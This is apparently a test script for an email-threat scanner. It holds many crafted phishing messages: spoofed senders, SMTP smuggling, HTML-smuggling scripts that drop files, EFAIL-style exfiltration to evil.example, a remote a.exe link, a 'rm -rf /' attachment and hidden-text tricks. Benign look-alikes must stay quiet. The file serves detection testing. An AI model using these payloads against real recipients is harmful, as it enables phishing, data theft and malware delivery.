#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Deceptive messages in shapes of our own, each with the codes of which one must be raised, and honest look-alikes that must stay
below medium. The shapes vary what is published: who follows the wording of a report finds only the message in that report.
"""
import base64, gzip, io, json, os, subprocess, tempfile, zipfile

from tap import check, end

MAILCHECK = os.environ.get('MAILCHECK', './mailcheck')
SEVERITY = ['none', 'info', 'low', 'medium', 'high', 'critical']
RECEIVED = ('Received: from mail.attack.example (mail.attack.example [198.51.100.66]) by mx.victim.example with ESMTPS id 1A2B3C\r\n'
            '\tfor <alice@victim.example>; Tue, 10 Nov 2026 09:12:44 +0000\r\n')
ZONE = """;@ complete
shop.example. IN TXT "v=spf1 ip4:198.51.100.66 -all"
_dmarc.shop.example. IN TXT "v=DMARC1; p=reject"
mail.shop.example. IN A 198.51.100.66
"""
ATTACKS, BENIGN = [], []


def raw(x):
    return x if isinstance(x, bytes) else x.encode('utf-8', 'surrogateescape')


def m(frm='From: Bank <a@attack.example>', sub='Subject: Hello', ct='Content-Type: text/plain; charset=utf-8',
      body='Hello Alice, please read this message carefully today.', extra='', rp='bounce@attack.example'):
    head = ('Return-Path: <%s>\r\n' % rp + RECEIVED + frm + '\r\nTo: Alice <alice@victim.example>\r\n' + sub
            + '\r\nDate: Tue, 10 Nov 2026 09:12:00 +0000\r\nMessage-ID: <1@attack.example>\r\nMIME-Version: 1.0\r\n'
            + (extra + '\r\n' if extra else '') + ct + '\r\n\r\n')
    return raw(head) + raw(body) + b'\r\n'


def html(x, **k):
    return m(ct='Content-Type: text/html; charset=utf-8', body='<html><body>' + x + '</body></html>', **k)


def parts(kind, *each):
    return dict(ct='Content-Type: multipart/%s; boundary=q' % kind, body='--q\r\n' + '\r\n--q\r\n'.join(each) + '\r\n--q--')


def att(name, data, type='application/octet-stream', text='See attached.', head=None):
    head = head or 'Content-Type: %s; name="%s"\r\nContent-Disposition: attachment; filename="%s"' % (type, name, name)
    return m(**parts('mixed', 'Content-Type: text/plain\r\n\r\n' + text, head + '\r\nContent-Transfer-Encoding: base64\r\n\r\n'
                     + base64.encodebytes(raw(data)).decode().strip().replace('\n', '\r\n')))


def archive(**files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        for name, text in files.items():
            z.writestr(name, text)
    return out.getvalue()


def locked():
    """a ZIP file whose member is marked as encrypted"""
    d = bytearray(archive(**{'invoice.pdf': 'x' * 100}))
    d[6] |= 1
    d[d.find(b'PK\1\2') + 8] |= 1
    return bytes(d)


def word(text):
    return '=?utf-8?B?' + base64.b64encode(text.encode()).decode() + '?='


def a(name, codes, message, least='medium'):
    ATTACKS.append((name, codes, message, least))


def ok(name, message):
    BENIGN.append((name, message.replace(b'attack.example', b'shop.example')))


a('from-group', ['FROM-GROUP'], m(frm='From: Bank Security: ceo@bank.example;'))
a('from-nested-comment', ['FROM-COMMENT', 'FROM-PARSER-SPLIT'], m(frm='From: (ceo (really) <ceo@bank.example>) a@attack.example'))
a('from-source-route', ['FROM-ROUTE'], m(frm='From: Bank <@bank.example,@x.example:a@attack.example>'))
a('from-two-folded', ['FROM-MULTI-HDR'], m(frm='From: ceo@bank.example\r\nfrom: a@attack.example'))
a('from-nul-mid', ['FROM-PARSER-SPLIT', 'HDR-NUL'], m(frm='From: <ceo@bank.example\0.attack.example>'))
a('from-enc-semi', ['FROM-ENCODED-ADDR', 'FROM-PARSER-SPLIT'], m(frm='From: =?utf-8?q?ceo=40bank=2Eexample=2C?= <a@attack.example>'))
a('from-utf7-name', ['ENC-ODD-CHARSET'], m(frm='From: =?utf-7?Q?+ADw-ceo+AEA-bank.example+AD4-?= <a@attack.example>'))
a('from-crlf-enc', ['FROM-ENC-CONTROL'], m(frm='From: =?us-ascii?B?Y2VvDQpUbzogeA==?= <a@attack.example>'))
a('from-quoted-local2', ['FROM-QUOTED-LOCAL'], m(frm='From: "ceo@bank.example>"@attack.example'))
a('from-percent', ['FROM-QUOTED-LOCAL'], m(frm='From: ceo%bank.example@attack.example'))
a('from-tab-colon', ['FROM-NAME-WS'], m(frm='From\t: ceo@bank.example'))
a('from-name-addr-unicode-at', ['FROM-NAME-ADDR', 'FROM-NAME-DOMAIN'], m(frm='From: =?utf-8?B?'+base64.b64encode('ceo＠bank.example'.encode()).decode()+'?= <a@attack.example>'))
a('from-name-addr-brackets', ['FROM-NAME-ADDR'], m(frm='From: "Bank [ceo@bank.example]" <a@attack.example>'))
a('sub-cr-injection', ['FROM-ENC-CONTROL', 'ENC-BAD', 'UNI-BIDI-SUBJECT', 'HDR-BARE-CR'], m(sub='Subject: hi\rFrom: ceo@bank.example'))
a('sub-tags', ['UNI-TAGS'], m(sub='Subject: pay '+''.join(chr(0xE0000+ord(c)) for c in 'secret')))
a('sub-bidi-q', ['UNI-BIDI-SUBJECT'], m(sub='Subject: =?utf-8?Q?invoice=E2=81=A7fdp.exe?='))
a('greek-domain', ['FROM-LOOKALIKE', 'FROM-MIXED-SCRIPT'], m(frm='From: Bank <a@xn--bnk-gmd.example>',body='Visit https://bank.example/ now please to see it all.'))
a('cyrillic-letters', ['FROM-MIXED-SCRIPT', 'FROM-LOOKALIKE'], m(frm='From: Bank <a@'+'pаypal'.encode('idna').decode()+'.example>',body='https://paypal.example/'))
a('cyrillic-host', ['URL-IDN'], html('<p>Pay at <a href="https://раураl.example/">here</a> for bank</p>'))
a('rn-m', ['FROM-LOOKALIKE'], m(frm='From: X <a@rnybank.example>',body='see https://mybank.example/ for details of this.'))
a('smuggle-lf', ['HDR-SMUGGLE'], m(body=b'hello\n.\nMAIL FROM:<x@y>\r\nRCPT TO:<z@y>\r\nDATA\r\nFrom: ceo@bank.example\r\n\r\nhi'))
a('smuggle-cr', ['HDR-SMUGGLE'], m(body=b'hello\r\n.\rMAIL FROM:<x@y>\r\nRCPT TO:<z@y>\r\nDATA\r\nhi'))
a('ct-dup-part', ['MIME-DUP-CT'], m(ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\nContent-Type: text/plain\r\nContent-Type: application/zip; name="a.zip"\r\n\r\nhi\r\n--q--'))
a('cte-dup', ['MIME-DUP-CT'], m(extra='Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: 7bit',body='aGVsbG8='))
a('boundary-2231', ['MIME-BOUNDARY-AMBIG'], m(ct='Content-Type: multipart/mixed; boundary*0="a"; boundary*1="b"; boundary="c"',body='--ab\r\n\r\none\r\n--ab--\r\n--c\r\n\r\ntwo\r\n--c--'))
a('boundary-comment', ['MIME-BOUNDARY-AMBIG'], m(ct='Content-Type: multipart/mixed; boundary=foo(bar)',body='--foo\r\n\r\none\r\n--foo--\r\n--foo(bar)\r\n\r\ntwo\r\n--foo(bar)--'))
a('boundary-empty', ['MIME-BOUNDARY-AMBIG'], m(ct='Content-Type: multipart/mixed; boundary=""',body='--\r\n\r\none\r\n----\r\n'))
a('boundary-folded-name', ['MIME-BOUNDARY-AMBIG', 'MIME-CTE-OBFUSC'], m(ct='Content-Type: multipart/mixed; boun\r\n dary=foo; boundary=bar',body='--foo\r\n\r\none\r\n--foo--\r\n--bar\r\n\r\ntwo\r\n--bar--'))
a('cte-comment', ['MIME-CTE-OBFUSC'], m(extra='Content-Transfer-Encoding: base64 (x)',body='aGVsbG8='))
a('cte-encword', ['MIME-CTE-OBFUSC'], m(extra='Content-Transfer-Encoding: =?us-ascii?q?base64?=',body='aGVsbG8='))
a('cte-unknown', ['MIME-CTE-BAD'], m(extra='Content-Transfer-Encoding: base-64',body='aGVsbG8='))
a('b64-padding-mid', ['MIME-B64-DIRTY'], m(extra='Content-Transfer-Encoding: base64',body='aGVsbG8=d29ybGQ=aGVsbG8gd29ybGQ='))
a('epilogue-html', ['MIME-HIDDEN-TEXT'], m(ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\n\r\nhi\r\n--q--\r\n<html><body><a href="http://evil.example/">click</a></body></html>'))
a('partial', ['MIME-PARTIAL'], m(ct='Content-Type: message/partial; id="a@b"; number=1; total=2',body='From: x\r\n\r\nhi'))
a('rtlo-name', ['ATT-NAME-TRICK'], att('x',b'abc',head='Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8\'\'annex%E2%80%AEgpj.exe'))
a('double-ext-dots', ['ATT-DOUBLE-EXT'], att('Statement.pdf..scr',b'MZ'+b'\0'*100))
a('double-ext-spaces', ['ATT-DOUBLE-EXT', 'ATT-NAME-TRICK'], att('Statement.docx                     .js',b'var a=1;'))
a('name-conflict', ['ATT-NAME-CONFLICT'], att('x',b'PK',head='Content-Type: application/pdf; name="a.pdf"\r\nContent-Disposition: attachment; filename="a.exe"; filename*0="a.p"; filename*1="df"'))
a('type-mismatch', ['ATT-TYPE-MISMATCH'], att('photo.jpg',b'<!DOCTYPE html><html><script>alert(1)</script></html>','image/jpeg'))
a('elf-as-txt', ['ATT-TYPE-MISMATCH'], att('notes.txt',b'\x7fELF\x02\x01\x01'+b'\0'*100,'text/plain'))
a('py-as-pdf', ['ATT-TYPE-MISMATCH'], att('doc.pdf',b'#!/bin/sh\nrm -rf /\necho hello world\n','application/pdf'))
a('java-as-png', ['ATT-TYPE-MISMATCH'], att('logo.png',b'\xca\xfe\xba\xbe\0\0\0\x34'+b'\0'*60,'image/png'))
a('bat-as-txt', ['ATT-TYPE-MISMATCH', 'ATT-DANGEROUS'], att('readme.cmd',b'@echo off\r\nstart calc\r\n','text/plain'))
a('enc-zip-pass', ['ATT-ENCRYPTED'], att('invoice.zip',locked(),'application/zip',text='The archive pass code is 4711-AB'))
a('enc-zip-pass-de', ['ATT-ENCRYPTED'], att('rechnung.zip',locked(),'application/zip',text='Das Kennwort lautet: Rechnung2026'))
a('zip-lnk', ['ATT-DANGEROUS'], att('a.zip',archive(**{'docs/Invoice.pdf.lnk':'L'}),'application/zip'))
a('svg-smuggle', ['ATT-SVG'], att('a.svg','<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"><a xlink:href="javascript:1"><text>t</text></a></svg>','image/svg+xml'))
a('svg-animate', ['ATT-SVG'], att('a.svg','<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/><text>t</text></a></svg>','image/svg+xml'))
a('svg-use-data', ['ATT-SVG'], att('a.svg','<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>','image/svg+xml'))
a('html-att-smuggle', ['ATT-SMUGGLING'], att('doc.html','<script>var d=window["ato"+"b"]("aGk=");var u=URL.createObjectURL(new Blob([d]));location=u;</script>','text/html'))
a('html-smuggle-b64var', ['ATT-SMUGGLING'], att('doc.htm','<script>const s=Uint8Array.from(atob("TVqQ"),c=>c.charCodeAt(0));const f=new File([s],"a.iso");const l=document.createElement("a");l.href=URL.createObjectURL(f);l.download="a.iso";l.click()</script>','text/html'))
a('ics-phish', ['ATT-ICS'], m(ct='Content-Type: text/calendar; method=REQUEST; charset=utf-8',body='BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=IT:mailto:it@bank.example\r\nDESCRIPTION:Verify at https://evil.example/login\r\nEND:VEVENT\r\nEND:VCALENDAR'), 'low')
a('qr-table-text', ['ATT-QR'], m(body='\r\n'.join('█▀▄'*10 for _ in range(25))), 'info')
a('pdf-hexname', ['ATT-PDF-ACTIVE'], att('a.pdf',b'%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF','application/pdf'))
a('url-mismatch-dots', ['URL-MISMATCH'], html('<p>Go <a href="https://evil.example/x">www.bank.example/login</a></p>'))
a('url-mismatch-split', ['URL-MISMATCH'], html('<p>Go <a href="https://evil.example/x">https://<b>www.bank</b>.example</a></p>'))
a('url-userinfo', ['URL-USERINFO'], html('<p><a href="https://www.bank.example%2Flogin@evil.example/">login</a></p>'))
a('url-backslash', ['URL-USERINFO'], html('<p><a href="https://evil.example\\@bank.example/">login</a></p>'))
a('url-dword', ['URL-IP'], html('<p><a href="http://0xC6336442/x">login</a></p>'))
a('url-octal', ['URL-IP'], html('<p><a href="http://0306.063.0144.0102/x">login</a></p>'))
a('url-ipv6', ['URL-IP'], html('<p><a href="http://[::ffff:c633:6442]/x">login</a></p>'))
a('url-entity-js', ['URL-SCHEME'], html('<p><a href="jav&#x09;ascript:alert(1)">login</a></p>'))
a('url-searchms', ['URL-SCHEME'], html('<p><a href="search-ms:query=x&crumb=location:\\\\evil.example\\s">open</a></p>'))
a('url-unc', ['URL-SCHEME'], html('<p><img src="\\\\evil.example\\share\\a.png">open</p>'))
a('url-redirect', ['URL-REDIRECT'], html('<p><a href="https://www.search.example/url?sa=t&q=https%3A%2F%2Fevil.example%2F">open</a></p>'), 'low')
a('url-fullwidth', ['URL-IDN', 'URL-MISMATCH', 'URL-INVISIBLE'], html('<p><a href="https://bank。example.evil.example/">bank</a> <a href="https://bank.example⁄login.evil.example/">x</a></p>'))
a('html-base', ['HTML-BASE'], html('<base href="https://evil.example/"><p><a href="/login">https://bank.example/login</a></p>'))
a('html-data-uri', ['HTML-DATA-URI', 'URL-SCHEME'], html('<p><a href="data:text/html;base64,PHNjcmlwdD4=">open</a></p>'))
a('html-srcdoc', ['HTML-REFRESH', 'HTML-SCRIPT'], html('<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe><p>hello</p>'))
a('html-refresh', ['HTML-REFRESH'], html('<meta http-equiv="Refresh" content="0; URL=https://evil.example/"><p>hi</p>'))
a('html-svg-in-body', ['HTML-SCRIPT'], html('<svg><script>alert(1)</script></svg><p>hi</p>'))
a('html-salt-zw', ['HTML-SALT', 'UNI-ZERO-WIDTH'], html('<p>'+'Pa<span style="font-size:0">x9</span>ss<span style="font-size:0">q</span>wo<span style="font-size:0">z</span>rd exp<i style="display:none">k</i>ires</p>'))
a('html-salt-comment', ['HTML-SALT'], html('<p>Pass<!-- a -->word ex<!--b-->pired ac<!-- c -->count su<!-- d -->spended</p>'))
a('html-salt-class', ['HTML-SALT'], html('<style>.q{position:absolute;left:-9999px}</style><p>Pa<b class=q>zz</b>ssword ac<b class=q>zz</b>count ver<b class=q>zz</b>ify lo<b class=q>u</b>gin</p>'))
HID='statement of the quarterly budget meeting and lunch plans for the team of the north office'
for n,st in {'opacity':'opacity:0.0','clip':'position:absolute;clip:rect(0,0,0,0)','fs':'font-size:1px;line-height:0;color:#fff','h0':'height:0;overflow:hidden;display:block','w0':'width:0px;height:0px;overflow:hidden;display:block','vis':'visibility:collapse','scale':'transform:scale(0)','indent':'text-indent:-9999px;display:block','rgba':'color:rgba(0,0,0,0)','transp':'color:transparent','left':'position:fixed;top:-5000px','bgsame':'color:#fefefe;background-color:#ffffff','var':'font-size:0em','filter':'filter:opacity(0%)','clippath':'clip-path:inset(50%);position:absolute','zoom':'zoom:0','calc':'font-size:calc(1px - 1px)'}.items():
    a('hidden-' + n,['HTML-HIDDEN'],html('<p>Please confirm your account today.</p><div style="%s">%s</div><p>Thanks for reading all of this.</p>'%(st,' '.join([HID]*4))))
for n,css,body in [('desc','.a .b{display:none}','<div class=a><p><span class=b>%s</span></p></div>'),('child','.a > .b{display:none}','<div class=a><span class=b>%s</span></div>'),('tagclass','p.b{visibility:hidden}','<p class=b>%s</p>'),('id','#x{font-size:0}','<p id=x>%s</p>'),('attr','[data-x="1"]{display:none}','<p data-x=1>%s</p>'),('star','.w *{display:none}','<div class=w><p>%s</p></div>'),('list','h1,.b,h2{display:none}','<p class=b>%s</p>'),('mediaall','@media all{.b{display:none}}','<p class=b>%s</p>'),('mediascreen','@media screen{.b{display:none}}','<p class=b>%s</p>'),('nth','p:first-child{display:none}','<div><p>%s</p></div>'),('two','.a.b{display:none}','<p class="b a">%s</p>'),('important','.b{display:none!important}','<p class=b style="display:block">%s</p>'),('sib','h1 + p{display:none}','<h1>x</h1><p>%s</p>'),('not','p:not(.v){display:none}','<p class=q>%s</p><p class=v>Hello all you people</p>'),('import-comment','/* x */ .b /* y */ { display /**/ : none }','<p class=b>%s</p>'),('esc','.b{displ\\61y:none}','<p class=b>%s</p>')]:
    a('css-'+n,['HTML-HIDDEN'],html('<style>'+css+'</style><p class=vis>Please confirm your account today.</p>'+body%(' '.join([HID]*4))+'<p class=vis>Thanks for reading all of this.</p>'))
a('banner-forge', ['HTML-BANNER-FORGE'], html('<div style="background:#dfd">This message was scanned and the sender is verified. It is safe.</div><p>hello</p>'))
a('form', ['HTML-FORM'], html('<form action="https://evil.example/"><input type="text" name="user"><input type=password name=p><button>go</button></form>'))
a('alt-amount', ['MIME-ALT-DIVERGE'], m(ct='Content-Type: multipart/alternative; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nDear Alice, please pay the invoice of EUR 1,200.00 to the account DE89 3704 0044 0532 0130 00 until Friday this week. Kind regards from all of us here at Bank Example Ltd in the north office of the town.\r\n--q\r\nContent-Type: text/html\r\n\r\n<p>Dear Alice, please pay the invoice of EUR 9,800.00 to the account GB29 NWBK 6016 1331 9268 19 until Friday this week. Kind regards from all of us here at Bank Example Ltd in the north office of the town.</p>\r\n--q--'))
a('alt-phone', ['MIME-ALT-DIVERGE'], m(ct='Content-Type: multipart/alternative; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nDear Alice, if you did not make this order of the new laptop computer call our help line at +1 800 555 0100 at once, we are open day and night for all of our customers. Kind regards, the team of the shop and the store.\r\n--q\r\nContent-Type: text/html\r\n\r\n<p>Dear Alice, if you did not make this order of the new laptop computer call our help line at +1 888 555 0199 at once, we are open day and night for all of our customers. Kind regards, the team of the shop and the store.</p>\r\n--q--'))
a('alt-mailto', ['MIME-ALT-DIVERGE'], m(ct='Content-Type: multipart/alternative; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nDear Alice, for your new order of the new laptop computer please write to us at orders@shop.example at once, we are open day and night for all of our customers. Kind regards, the whole team of the shop and also the store.\r\n--q\r\nContent-Type: text/html\r\n\r\n<p>Dear Alice, for your new order of the new laptop computer please write to us at orders@evil.example at once, we are open day and night for all of our customers. Kind regards, the whole team of the shop and also the store.</p>\r\n--q--'))
a('replyto-look', ['REPLYTO-LOOKALIKE'], m(frm='From: Bank <a@mybank.example>\r\nReply-To: a@rnybank.example'))
a('replyto-free', ['REPLYTO-FREEMAIL'], m(frm='From: CEO Jane Doe <jane.doe@corp.example>\r\nReply-To: CEO Jane Doe <jane.doe.ceo@gmail.com>'))
a('efail', ['HTML-EFAIL'], m(ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--q\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIB\r\n--q\r\nContent-Type: text/html\r\n\r\n">\r\n--q--'))
a('uue', ['MIME-UUE'], m(body='hello\r\nbegin 644 run.exe\r\n#0V%T\r\n`\r\nend\r\n'))
a('env-comment', ['ENV-META'], m(rp='ceo@bank.example(x@attack.example'))
a('part-split', ['MIME-PART-SPLIT'], m(ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\nContent-Type: text/plain\r\n \t\r\nContent-Disposition: attachment; filename=a.exe\r\n\r\nMZ\r\n--q--'))
a('body-fields', ['HDR-BODY-FIELDS'], m(body='Content-Type: text/html\r\nMIME-Version: 1.0\r\n\r\n<a href="http://evil.example/">x</a>'))
a('mid-claim', ['MID-VENDOR-CLAIM'], m().replace(b'<1@attack.example>', b'<CAF0a1b2c3d4@mail.gmail.com>'))

a('disp-addr-spaced', ['FROM-NAME-ADDR', 'FROM-NAME-DOMAIN'], m(frm='From: "ceo @ bank.example" <a@attack.example>'))
a('disp-pad-nbsp', ['FROM-NAME-PAD'], m(frm='From: =?utf-8?Q?Bank_Support'+'=C2=A0'*60+'x?= <a@attack.example>'))
a('disp-mixed', ['UNI-MIXED-NAME'], m(frm='From: =?utf-8?Q?P=D0=B0yP=D0=B0l?= <a@attack.example>'))
a('sub-hangul-filler', ['UNI-ZERO-WIDTH'], m(sub='Subject: ' + word('pass\u3164word')))
a('multi-addr-colon', ['FROM-MULTI-ADDR', 'FROM-GROUP', 'FROM-PARSER-SPLIT'], m(frm='From: a:ceo@bank.example,a@attack.example;'))
a('angle-two', ['FROM-NESTED', 'FROM-PARSER-SPLIT'], m(frm='From: <ceo@bank.example> <a@attack.example>'))
a('semi', ['FROM-TRAILING', 'FROM-PARSER-SPLIT', 'FROM-MULTI-ADDR', 'FROM-GROUP'], m(frm='From: ceo@bank.example; a@attack.example'))
a('from-softhyphen', ['FROM-INVISIBLE'], m(frm='From: a@ba\u00adnk.example'))
a('bang-path', ['FROM-QUOTED-LOCAL'], m(frm='From: bank.example!ceo@attack.example'))
a('blank-fold', ['HDR-FOLD-BLANK'], m(sub='Subject: a\r\n \r\n\tReply-To: x@y.example').replace(b'\r\n\tReply',b'\r\nReply'))
a('part-dup-name', ['MIME-DUP-CT', 'ATT-NAME-CONFLICT'], att('x',b'PK',head='Content-Type: text/plain; name=a.txt\r\nContent-Type: application/x-msdownload; name=a.exe\r\nContent-Disposition: attachment'))
a('boundary-reuse', ['MIME-BOUNDARY-REUSE'], m(ct='Content-Type: multipart/mixed; boundary=q',body='--q\r\nContent-Type: multipart/alternative; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nhi\r\n--q--\r\n--q--'))
a('boundary-case', ['MIME-BOUNDARY-AMBIG'], m(ct='Content-Type: multipart/mixed; boundary=abc; Boundary=xyz',body='--abc\r\n\r\none\r\n--abc--\r\n--xyz\r\n\r\ntwo\r\n--xyz--'))
a('preamble-html', ['MIME-HIDDEN-TEXT'], m(ct='Content-Type: multipart/mixed; boundary=q',body='Content-Type: text/html\r\n\r\n<p>Pay now at <a href="http://evil.example">bank</a></p>\r\n--q\r\n\r\nhi\r\n--q--'))
a('external-body', ['MIME-PARTIAL'], m(ct='Content-Type: message/external-body; access-type=URL; URL="http://evil.example/a.exe"',body='Content-Type: application/octet-stream\r\n\r\n'))
a('utf7-body', ['ENC-ODD-CHARSET'], m(ct='Content-Type: text/html; charset=utf-7',body='+ADw-script+AD4-alert(1)+ADw-/script+AD4-'))
a('ext-2231cont', ['ATT-DANGEROUS'], att('x',b'abc',head="Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*0*=utf-8''invoice%2e; filename*1=e; filename*2*=x%65"))
a('ext-ads', ['ATT-DANGEROUS', 'ATT-NAME-TRICK'], att('invoice.pdf:evil.exe',b'abc'))
a('path-trav', ['ATT-NAME-TRICK'], att('..\\..\\Startup\\a.txt',b'abc'))
a('zip-in-zip', ['ATT-DANGEROUS'], att('a.zip',archive(**{'b.zip':archive(**{'c.exe':'MZ'})}),'application/zip'))
a('docx-ole', ['ATT-REMOTE-TEMPLATE'], att('a.docx',archive(**{'[Content_Types].xml':'<Types/>','word/document.xml':'x','word/_rels/document.xml.rels':"<Relationships><Relationship Target='http://evil.example/x.html!' TargetMode='External' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject' Id='r'/></Relationships>"})))
a('smuggle-wasm', ['ATT-SMUGGLING'], att('d.html','<script>const u=String.fromCharCode(77,90);const f=new Blob([u]);location.href=URL.createObjectURL(f)</script>','text/html'))
a('url-mismatch-upper', ['URL-MISMATCH'], html('<p><a href="HTTP://EVIL.EXAMPLE/">HTTPS://BANK.EXAMPLE/LOGIN</a></p>'))
a('url-text-ip', ['URL-IP'], m(body='Login: http://3232235777/login today please or http://0x7f.1/.'))
a('form-formaction', ['HTML-FORM'], html('<form><input name=user><button formaction="https://evil.example/">x</button></form>'))
a('context-css2', ['HTML-CONTEXT-CSS'], html('<style>.evil{display:none} blockquote .evil, .gmail_quote .evil{display:block}</style><p class=evil>Please pay the sum of 9000 EUR to this account now</p><p>Lunch on Monday?</p>'))
a('banner-hide', ['HTML-BANNER-FORGE'], html('<style>#external-warning, .x_banner, [class*=caution]{display:none!important}</style><p>hello to all</p>'))
a('salt-attr', ['HTML-SALT'], html('<p>Pay<span hidden>x</span>Pal ac<span hidden>q</span>count lim<span hidden>z</span>ited un<span hidden>z</span>til</p>'))
a('salt-white', ['HTML-SALT'], html('<p style="color:#000">Pay<font color="#ffffff">x</font>Pal ac<font color="#ffffff">x</font>count lim<font color="#ffffff">x</font>ited to<font color=white>z</font>day</p>'))
a('efail2', ['HTML-EFAIL'], m(ct='Content-Type: multipart/mixed; boundary=q',body="--q\r\nContent-Type: text/html\r\n\r\n<a href='http://evil.example/\r\n--q\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n-----END PGP MESSAGE-----\r\n--q--"))

# --- what must stay quiet

NEWS='<html><head><style>@media only screen and (max-width:600px){.desk{display:none!important}.mob{display:block!important}} .mob{display:none} a:hover{color:red} .ExternalClass{width:100%} @media (prefers-color-scheme: dark){.x{color:#fff}}</style></head><body><div style="display:none;max-height:0;overflow:hidden">Warm socks for cold days: our new winter collection is here now&zwnj;&nbsp;&zwnj;&nbsp;&zwnj;</div><table><tr><td class=desk><a href="https://shop.example/a">Our winter socks are here for all of you who like it warm at home</a></td></tr></table><div class=mob><a href="https://shop.example/a">Our winter socks are here for all of you who like it warm at home</a></div><p>Prices from EUR 9.99. <a href="https://shop.example/u?e=alice%40victim.example">Unsubscribe</a></p><img src="https://shop.example/o.gif" width=1 height=1></body></html>'
ok('newsletter', m(frm='From: Shop <news@shop.example>',extra='List-Unsubscribe: <https://shop.example/u>',ct='Content-Type: text/html; charset=utf-8',body=NEWS))
ok('news-alt', m(frm='From: Shop <news@shop.example>',ct='Content-Type: multipart/alternative; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nOur winter socks are here for all of you who like it warm at home. Prices from EUR 9,99. Call us at 0800 123 4567 or write to help@shop.example any time you like it. https://shop.example/a\r\n--q\r\nContent-Type: text/html\r\n\r\n'+NEWS.replace('</body>','<p>Call us at <a href="tel:08001234567">0800-123-4567</a> or write to <a href="mailto:help@shop.example">help@shop.example</a> any time you like it.</p></body>')+'\r\n--q--'))
ok('calendar', m(frm='From: Jane <jane@shop.example>',ct='Content-Type: multipart/alternative; boundary=q',body='--q\r\nContent-Type: text/plain\r\n\r\nMeeting on Monday at ten in the small room, please come.\r\n--q\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER:mailto:jane@shop.example\r\nURL:https://meet.shop.example/1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--q--'))
ok('pdf-invoice', att('Rechnung Nr. 2026-11.pdf',b'%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF','application/pdf'))
ok('targz', att('backup.2026.tar.gz',gzip.compress(b'x'*600),'application/gzip'))
ok('docx', att('report.v2.docx',archive(**{'[Content_Types].xml':'<Types/>','word/document.xml':'<w/>'}),'application/vnd.openxmlformats-officedocument.wordprocessingml.document'))
ok('svg-logo', att('logo.svg','<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><path id="a" d="M0 0"/></defs><use xlink:href="#a"/></svg>','image/svg+xml'))
ok('intl-name', att('x',b'abc',head="Content-Type: application/octet-stream; name=\"=?utf-8?Q?Gr=C3=BC=C3=9Fe=2Etxt?=\"\r\nContent-Disposition: attachment; filename=\"Gruesse.txt\"; filename*=utf-8''Gr%C3%BC%C3%9Fe.txt"))
ok('arabic-subject', m(frm='From: Shop <news@shop.example>',sub='Subject: =?utf-8?B?'+base64.b64encode('مرحبا\u200f بكم في متجرنا'.encode()).decode()+'?='))
ok('emoji', m(frm='From: =?utf-8?Q?Shop_=F0=9F=9B=92?= <news@shop.example>',sub='Subject: =?utf-8?B?'+base64.b64encode('👩‍👩‍👧 Family day 🏴󠁧󠁢󠁥󠁮󠁧󠁿'.encode()).decode()+'?='))
ok('japanese', m(frm='From: =?iso-2022-jp?B?GyRCRUQbKEI=?= <news@shop.example>',sub='Subject: =?iso-2022-jp?B?GyRCJDMkcyRLJEEkTxsoQg==?='))
ok('reply-quote', m(frm='From: Jane <jane@shop.example>',sub='Subject: Re: offer',extra='In-Reply-To: <9@victim.example>\r\nReferences: <9@victim.example>',body='Yes.\r\n\r\nOn Monday Alice <alice@victim.example> wrote:\r\n> From: x\r\n> Content-Type: text/plain\r\n> see https://victim.example/'))
ok('smtp-howto', m(frm='From: Jane <jane@shop.example>',body='To test the server type:\r\n\r\nEHLO me\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nSubject: x\r\n\r\nhi\r\n..\r\nQUIT'))
ok('pgp-text', m(frm='From: Jane <jane@shop.example>',body='-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nHello Alice, this is me.\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\niQEzBAEBCAAdFiEE\r\n=abcd\r\n-----END PGP SIGNATURE-----'))
ok('code-review', m(frm='From: Jane <jane@shop.example>',body='diff --git a/x b/x\r\n--- a/x\r\n+++ b/x\r\n@@ -1 +1 @@\r\n-<script>alert(1)</script>\r\n+atob("x"); new Blob([y])\r\nbegin to see it'))
